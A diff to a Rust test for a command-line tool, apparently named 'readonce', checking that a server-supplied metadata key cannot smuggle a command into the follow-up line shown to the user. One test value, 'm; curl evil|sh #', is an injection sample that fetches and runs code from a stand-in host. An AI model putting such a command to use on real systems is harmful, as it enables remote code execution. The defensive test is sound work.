@@ -152,7 +152,7 @@ async fn a_link_that_is_not_on_the_command_line_is_asked_for_and_its_host_is_nam
 
 #[tokio::test(flavor = "multi_thread")]
 async fn the_commands_to_follow_are_whole_and_hold_nothing_of_a_servers() {
-    for (key, expected) in [("m", true), ("m; curl evil|sh #", false)] {
+    for (key, expected) in [("m", 0), ("m; curl evil|sh #", 7)] {
         let body = format!("{{\"metadata_key\":\"{key}\",\"secret_key\":\"s\"}}");
         let fake = Fake::start(&[Does::Answers(200, "", body.leak())]).await;
         let cli = Cli::new();
@@ -161,6 +161,7 @@ async fn the_commands_to_follow_are_whole_and_hold_nothing_of_a_servers() {
         let (code, seen) = tokio::task::spawn_blocking(move || Pty::start(&cli, &line).ends()).await.unwrap();
         let follows =
             format!("readonce --config /dev/null --server {} --insecure-http receipt m ", fake.origin);
-        assert!(code == 0 && seen.contains(&follows) == expected && !seen.contains("evil"), "{seen}");
+        assert!(code == expected && seen.contains(&follows) == (code == 0), "{seen}");
+        assert!(!seen.contains("evil"), "{seen}");
     }
 }
